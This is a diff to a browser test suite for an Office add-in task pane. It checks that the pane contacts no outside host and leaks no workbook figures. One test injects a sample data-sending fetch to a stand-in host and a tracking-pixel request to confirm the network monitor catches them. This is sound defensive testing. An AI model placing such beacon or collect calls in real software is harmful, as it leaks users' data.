@@ -7,7 +7,8 @@ import type { Server } from "node:http";
 import { createRequire } from "node:module";
 import type { BrowserContext, Page } from "playwright-core";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
-import { buildTestPage, launch, serve } from "./support/browser";
+import { buildTestPage, launch, serve, type NetworkLog } from "./support/browser";
+import { requestsCarrying } from "./support/network";
 
 const require = createRequire(import.meta.url);
 const AXE = require.resolve("axe-core/axe.min.js");
@@ -16,12 +17,12 @@ const SHOTS = "test-output/screenshots";
 let server: Server;
 let origin: string;
 let context: BrowserContext;
-let outside: string[];
+let network: NetworkLog;
 
 beforeAll(async () => {
   buildTestPage();
   ({ server, origin } = await serve());
-  ({ context, outside } = await launch());
+  ({ context, network } = await launch());
   mkdirSync(SHOTS, { recursive: true });
 }, 180_000);
 
@@ -186,7 +187,31 @@ describe("task pane in Chromium", () => {
     await page.close();
   });
 
-  it("made no request outside this machine", () => {
-    expect(outside, outside.join("\n")).toEqual([]);
+  it("made no request outside this machine (Office.js's own host frames are told apart and blocked)", () => {
+    expect(network.outside, network.outside.join("\n")).toEqual([]);
+    // Office.js's telemetry frame, when it opens, is aborted too: nothing reached the outside.
+    for (const url of network.officeHostFrames) expect(new URL(url).hostname).toMatch(/oaspapps\.com$|microsoft\.com$|officeapps\.live\.com$/);
+  });
+
+  it("sent no workbook content in any request, local or not", () => {
+    // The unit's name and figures the pane read from the workbook (表一 收入总计 164.06, 表三 20801 147.88).
+    const carrying = requestsCarrying(network.all, ["忻州市社会保障卡服务中心", "164.06", "147.88", "社会保障和就业支出"]);
+    expect(carrying).toEqual([]);
+    expect(network.all.filter((r) => r.postData !== null).map((r) => r.url)).toEqual([]);
+  });
+
+  it("would notice a request that our page itself sends outside", async () => {
+    const page = await openPane();
+    const before = network.outside.length;
+    await page.evaluate(async () => {
+      await fetch("https://example.invalid/collect?unit=x").catch(() => undefined);
+      const image = new Image();
+      image.src = "https://telemetryservice.firstpartyapps.oaspapps.com/pixel.gif";
+      await new Promise((resolve) => { image.onerror = resolve; image.onload = resolve; });
+    });
+    // Both count as ours: a fetch, and an image from an Office host (not a frame office.js opened).
+    expect(network.outside.slice(before).sort()).toEqual(["https://example.invalid/collect?unit=x", "https://telemetryservice.firstpartyapps.oaspapps.com/pixel.gif"]);
+    network.outside.splice(before);
+    await page.close();
   });
 });
